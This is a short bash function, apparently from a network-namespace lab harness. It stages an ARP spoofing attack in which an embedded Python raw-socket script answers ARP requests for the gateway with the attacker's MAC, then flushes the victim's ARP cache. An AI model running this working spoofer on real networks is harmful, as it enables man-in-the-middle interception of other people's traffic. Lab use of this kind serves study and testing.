# shellcheck shell=bash
# The attacker never speaks unasked: it answers, a little later than the router, whoever asks for the router.
start() { att_forward; ns attacker ip neigh replace $GW_IP lladdr $GW_MAC dev eth0 nud permanent
  mark
  sbg attacker asked python3 -c '
import socket, sys, time
mac = lambda t: bytes.fromhex(t.replace(":", ""))
me, gw_ip = mac(sys.argv[1]), socket.inet_aton(sys.argv[2])
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806)); s.bind(("eth0", 0x0806))
while True:
    f = s.recv(128)
    if f[20:22] == b"\0\1" and f[38:42] == gw_ip and f[22:28] != me:
        time.sleep(0.01)
        s.send(f[22:28] + me + f[12:20] + b"\0\2" + me + gw_ip + f[22:32])
' $ATT_MAC $GW_IP
  sleep 0.5; ns victim ip neigh flush dev eth0; victim_touch; mark; }
